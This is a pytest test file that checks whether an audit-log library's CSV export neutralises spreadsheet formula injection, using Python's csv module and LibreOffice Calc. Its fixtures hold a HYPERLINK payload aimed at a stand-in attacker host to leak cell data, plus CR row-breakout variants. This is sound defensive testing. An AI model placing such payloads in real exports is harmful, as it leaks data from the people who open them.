"""CSV export against formula injection: Python's csv module (fast) and LibreOffice Calc (slow).

A spreadsheet runs a cell as a formula when it starts with ``=``, ``+``, ``-`` or ``@`` (also
after leading whitespace, a tab or a CR), and a CR outside quotes starts a new row there, so a
hostile subject id could put a live ``=HYPERLINK(...)`` into the next row's first cell.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from auditbird import Event
from auditbird.export import CSV_COLUMNS, csv_lines, neutralise_cell

LINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
HOSTILE_IDS = [
    f"x\r{LINK}",  # a lone CR: a new row in LibreOffice unless the cell is quoted
    f"x\n{LINK}",
    f"x\r\n{LINK}",
    LINK,
    f" {LINK}",
    f"\t{LINK}",
    f"\r{LINK}",
    "  \t @SUM(1+1)",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    'x,y;z"q',
]
COMBINATIONS = [
    lead + start + tail
    for lead in ["", " ", "  ", "\t", "\r", "\n", "\r\n", " \t\r"]
    for start in "=+-@|%"
    for tail in ["1+1", 'HYPERLINK("http://x")', 'a,b"c\rd\ne']
]


def hostile_events() -> list[Event]:
    return [
        Event(
            id=subject,
            action="doc.shared",
            actor={"id": f"\r{LINK}", "name": f" -{i}+1"},
            metadata={"note": f"\r{LINK}"},
            timestamp=1_700_000_000_000 + i,
            uid=f"u{i:03d}",
        )
        for i, subject in enumerate(HOSTILE_IDS + COMBINATIONS)
    ]


def export(events: list[Event], **options: bool) -> str:
    return "".join(csv_lines(events, **options))


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        (" =1+1", "' =1+1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n +1", "'\n +1"),
        ("-2", "'-2"),
        ("@x", "'@x"),
        ("monitor:1", "monitor:1"),
        ("", ""),
        ("  plain", "  plain"),
        ('{"a":"=1"}', '{"a":"=1"}'),
    ],
)
def test_neutralise_cell_prefixes_formulas_even_after_leading_whitespace(cell: str, expected: str) -> None:
    assert neutralise_cell(cell) == expected


def test_every_hostile_cell_reads_back_as_one_neutral_cell_in_its_own_row() -> None:
    events = hostile_events()
    text = export(events)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == list(CSV_COLUMNS)
    assert len(rows) == 1 + len(events)  # no cell broke out into a row of its own
    for row, event in zip(rows[1:], events, strict=True):
        assert len(row) == len(CSV_COLUMNS)
        cells = dict(zip(CSV_COLUMNS, row, strict=True))
        assert cells["uid"] == event.uid
        assert cells["id"] == neutralise_cell(event.id)
        assert cells["id"].startswith("'") or event.id.startswith("x")
        assert cells["actor_id"] == "'" + event.actor.id
        assert cells["actor_name"] == "'" + event.actor.name
    # Every cell holding a line break is quoted: outside quotes there is one LF per row, no CR.
    assert breaks_outside_quotes(text) == ["\n"] * (1 + len(events))


def breaks_outside_quotes(text: str) -> list[str]:
    inside, found = False, []
    for char in text:
        if char == '"':
            inside = not inside
        elif char in "\r\n\u2028\u2029" and not inside:
            found.append(char)
    return found


def test_every_whitespace_and_formula_start_combination_is_neutralised_and_kept_in_one_cell() -> None:
    cells = COMBINATIONS
    events = [
        Event(id=f"s{i}", action="doc.shared", actor={"id": c}, uid=f"u{i}") for i, c in enumerate(cells)
    ]
    rows = list(csv.DictReader(io.StringIO(export(events), newline="")))
    assert len(rows) == len(cells)
    assert [r["actor_id"] for r in rows] == ["'" + c for c in cells]
    assert [r["uid"] for r in rows] == [e.uid for e in events]


def test_a_lone_cr_is_always_quoted_also_in_raw_output() -> None:
    text = export(hostile_events()[:1], header=False, neutralise=False)
    assert f'"x\r{LINK.replace(chr(34), chr(34) * 2)}"' in text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 1 and rows[0][4] == f"x\r{LINK}"  # raw: exact, but still one cell


def test_cli_query_csv_is_neutralised_by_default_and_raw_on_request(tmp_path: Path) -> None:
    env = {**os.environ, "AUDITBIRD_URL": f"sqlite:///{tmp_path / 'cli.db'}"}
    exe = [str(Path(sys.executable).with_name("auditbird"))]
    event = '{"id": "=1+1", "action": "doc.shared", "actor": {"id": "\\r@x", "name": "n"}}'
    subprocess.run([*exe, "publish", event], env=env, check=True, capture_output=True)
    # Bytes, not text=True: universal newlines would turn the CR under test into a LF.
    neutral = subprocess.run([*exe, "query", "--format", "csv"], env=env, check=True, capture_output=True)
    raw = subprocess.run(
        [*exe, "query", "--format", "csv", "--raw"], env=env, check=True, capture_output=True
    )
    (row,) = csv.DictReader(io.StringIO(neutral.stdout.decode(), newline=""))
    assert row["id"] == "'=1+1" and row["actor_id"] == "'\r@x"
    (row,) = csv.DictReader(io.StringIO(raw.stdout.decode(), newline=""))
    assert row["id"] == "=1+1" and row["actor_id"] == "\r@x"


# -- a real spreadsheet program -------------------------------------------------------------

_TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
_TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"


def soffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        pytest.fail(
            "LibreOffice is not installed: run scripts/test-deps.d/40-libreoffice.sh "
            "(Debian's libreoffice-calc-nogui)",
            pytrace=False,
        )
    return found


def calc_cells(csv_path: Path, profile: Path) -> list[list[tuple[str | None, str]]]:
    """Open ``csv_path`` in LibreOffice Calc with its default CSV import and return every row's
    cells as (formula or None, shown text), read from a flat ODS export."""
    subprocess.run(
        [
            soffice(),
            f"-env:UserInstallation={profile.as_uri()}",  # a private profile: runs never clash
            "--headless",
            "--convert-to",
            "fods",
            "--outdir",
            str(csv_path.parent),
            str(csv_path),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    tree = ET.parse(csv_path.with_suffix(".fods"))
    rows = []
    for row in tree.iter(f"{{{_TABLE}}}table-row"):
        cells = []
        for cell in row.findall(f"{{{_TABLE}}}table-cell"):
            text = "\n".join("".join(p.itertext()) for p in cell.findall(f"{{{_TEXT}}}p"))
            repeat = int(cell.get(f"{{{_TABLE}}}number-columns-repeated", "1"))
            cells.extend([(cell.get(f"{{{_TABLE}}}formula"), text)] * min(repeat, 64))
        while cells and cells[-1] == (None, ""):
            cells.pop()
        rows.append(cells)
    while rows and not rows[-1]:
        rows.pop()
    return rows


@pytest.mark.slow
def test_libreoffice_opens_the_export_without_a_single_formula(tmp_path: Path) -> None:
    events = hostile_events()
    path = tmp_path / "export.csv"
    path.write_text(export(events), encoding="utf-8", newline="")
    rows = calc_cells(path, tmp_path / "profile")
    formulas = [(r, c, cell) for r, row in enumerate(rows) for c, cell in enumerate(row) if cell[0]]
    assert formulas == []
    assert len(rows) == 1 + len(events)
    assert [text for _, text in rows[0]] == list(CSV_COLUMNS)
    for row, event in zip(rows[1:], events, strict=True):
        assert len(row) == len(CSV_COLUMNS), row
        cells = dict(zip(CSV_COLUMNS, (text for _, text in row), strict=True))
        assert cells["uid"] == event.uid
        # Calc swallows the neutralising quote and trims outer whitespace; the rest is as published.
        shown = cells["id"].removeprefix("'").replace("\r\n", "\n").replace("\r", "\n").strip()
        assert shown == event.id.replace("\r\n", "\n").replace("\r", "\n").strip()


@pytest.mark.slow
def test_libreoffice_proves_the_old_export_was_exploitable(tmp_path: Path) -> None:
    """The check can fail: raw cells (as exported before the fix would have, unquoted CR and all)
    do give Calc live formulas and extra rows."""
    path = tmp_path / "raw.csv"
    path.write_text(f'id,actor\nx\r{LINK},a\n"=1+1",b\n', encoding="utf-8", newline="")
    rows = calc_cells(path, tmp_path / "profile")
    assert len(rows) == 4
    assert [cell[0] is not None for row in rows for cell in row].count(True) == 2
